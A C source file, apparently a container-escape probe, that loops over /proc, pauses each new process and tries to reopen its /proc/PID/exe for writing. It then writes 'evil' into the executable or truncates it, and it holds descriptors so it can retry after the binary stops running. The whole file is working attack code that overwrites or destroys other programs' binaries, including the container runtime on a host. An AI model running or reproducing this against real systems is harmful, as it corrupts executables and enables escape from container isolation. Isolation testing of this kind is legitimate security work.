/*
 * Tries to write into the program of every process that appears, as long as that program runs and after it: stops the
 * process, opens its /proc/PID/exe, and opens that again for writing. Prints how many were opened, and each that could be
 * written. Ends when /stop is there.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

enum { HELD = 64 };

static long opened, written;
static int held[HELD];

static void write_to(int fd) {
    static const int MODES[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (size_t i = 0; i < sizeof(MODES) / sizeof(MODES[0]); i++) {
        int again = open(path, MODES[i]);
        if (again < 0)
            continue;
        if (write(again, "evil", 4) == 4 || ftruncate(again, 0) == 0) {
            char target[256] = "";
            if (readlink(path, target, sizeof(target) - 1) < 0)
                target[0] = '\0';
            printf("written: %s\n", target);
            written++;
        }
        close(again);
    }
}

/* Whether a descriptor is of the container's own program, which anybody in it may write to. */
static int is_own(int fd) {
    char path[64], target[256] = "";
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    return readlink(path, target, sizeof(target) - 1) <= 0 || strstr(target, "busybox") != NULL;
}

static void attack(const char *pid) {
    char path[280];
    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    kill(atoi(pid), SIGSTOP);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    /* Looked at now that it is open: a process becomes another until it has stopped. */
    if (fd >= 0 && is_own(fd))
        close(fd);
    else if (fd >= 0) {
        if (opened == 0)
            printf("opened the first\n");
        write_to(fd);
        /* Once nobody runs it any more, ETXTBSY protects it no longer. */
        close(held[opened % HELD]);
        held[opened++ % HELD] = fd;
    }
    kill(atoi(pid), SIGCONT);
}

int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    memset(held, -1, sizeof(held));
    char self[16];
    snprintf(self, sizeof(self), "%d", (int)getpid());
    for (long turn = 0; access("/stop", F_OK) != 0; turn++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self) != 0)
                attack(entry->d_name);
        closedir(proc);
        for (int i = 0; turn % 32 == 0 && i < HELD; i++)
            if (held[i] >= 0)
                write_to(held[i]);
        /* A newcomer lives for milliseconds, and needs a CPU for it. */
        usleep(100);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
    printf("opened %ld written %ld\n", opened, written);
    return 0;
}
